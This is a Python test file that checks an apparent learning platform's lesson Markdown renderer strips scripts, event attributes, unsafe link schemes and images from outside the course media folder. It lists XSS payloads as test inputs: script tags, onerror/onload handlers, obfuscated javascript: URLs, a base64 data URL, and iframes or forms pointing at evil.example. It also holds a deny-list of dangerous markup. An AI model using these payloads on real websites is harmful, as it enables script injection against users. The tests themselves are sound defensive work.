"""Lesson Markdown is rendered safe: no scripts, no event attributes, only safe links and images."""

import re

import pytest

from ecri_lms.catalogue.rendering import render_markdown


def _resolve(path: str, fragment: str) -> str | None:
    if path.startswith("media/"):
        return f"/courses/TA01/files/{path}"
    if path == "lessons/02-next.md":
        return "/courses/TA01/lessons/next" + fragment
    return None


def render(text: str) -> str:
    return str(render_markdown(text, _resolve, in_lesson=True))


@pytest.mark.parametrize(
    "text",
    [
        "Before <script>alert('x')</script> after",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        '<img src="media/x.png" onerror="alert(1)">',
        '<p onclick="alert(1)" style="background:url(javascript:alert(1))">text</p>',
        "[click](javascript:alert(1))",
        "[click](JaVaScRiPt:alert(1))",
        '<a href="&#106;avascript:alert(1)">click</a>',
        '<a href="java\tscript:alert(1)">click</a>',
        "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        '<iframe src="https://evil.example"></iframe>',
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "<style>body{display:none}</style>",
        '<object data="x.swf"></object><embed src="x.swf">',
        '<form action="https://evil.example"><input name=q></form>',
    ],
)
def test_a_lesson_with_scripts_event_attributes_or_bad_links_is_rendered_inert(text):
    html = render(text).lower()

    for danger in (
        "<script",
        "alert",
        "onerror",
        "onclick",
        "onload",
        "javascript:",
        "data:",
        "<iframe",
        "<style",
        "style=",
        "<object",
        "<embed",
        "<form",
        "<input",
        "<svg",
        "evil.example",
    ):
        assert danger not in html, (danger, html)


def test_links_get_noopener_and_only_safe_schemes_remain():
    html = render(
        "[a](https://ema.europa.eu) [b](http://example.org) [c](mailto:team@example.org) "
        "[d](ftp://example.org) [e](//example.org)"
    )

    assert '<a href="https://ema.europa.eu" rel="noopener noreferrer">a</a>' in html
    assert 'href="http://example.org"' in html and 'href="mailto:team@example.org"' in html
    assert '<a rel="noopener noreferrer">d</a>' in html and '<a rel="noopener noreferrer">e</a>' in html


# Images from anywhere but the course's media folder: remote (any spelling), data, site paths, traversal.
FOREIGN_IMAGES = [
    "![c](https://ec.europa.eu/x.png)",
    '<img src="https://tracker.example/pixel.gif">',
    "![d](http://insecure.example/x.png)",
    "![e](//cdn.example/x.png)",
    '<img src="HTTPS://upper.example/x.png">',
    '<img src=" https://space.example/x.png">',
    "![f](https:\\\\backslash.example/x.png)",
    '<img src="https:/one-slash.example/x.png">',
    "![g](data:image/png;base64,iVBORw0KGgo=)",
    "![h](/static/x.png)",
    "![i](../../secret.png)",
    '<img src="/\\evil.example/x.png">',
    '<img src="media/ok.png" srcset="https://srcset.example/x.png 2x">',
]


def test_images_come_only_from_the_course_media_folder():
    html = render("![a](media/chart.svg) ![b](../media/map.png) " + " ".join(FOREIGN_IMAGES))

    sources = re.findall(r'src="([^"]*)"', html)
    assert sources == [
        "/courses/TA01/files/media/chart.svg",
        "/courses/TA01/files/media/map.png",
        "/courses/TA01/files/media/ok.png",
    ]
    for foreign in ("europa", ".example", "data:", "/static/", "secret.png"):
        assert foreign not in html, foreign


def test_links_to_other_lessons_point_to_the_lesson_viewer():
    html = render("[next](02-next.md#worked-example) [unknown](07-nothing.md) [anchor](#top)")

    assert 'href="/courses/TA01/lessons/next#worked-example"' in html
    assert "07-nothing" not in html and 'href="#top"' in html


def test_markdown_tables_headings_and_lists_survive():
    html = render("## Steps\n\n1. One\n2. Two\n\n| Stage | Actor |\n|---|---|\n| R&D | University |\n")

    assert '<h2 id="steps">Steps</h2>' in html and "<ol>" in html
    assert "<th>Stage</th>" in html and "<td>R&amp;D</td>" in html


def test_without_a_resolver_relative_links_are_dropped():
    html = str(render_markdown("![x](media/a.png) [y](notes.md)"))

    assert "media/a.png" not in html and "notes.md" not in html
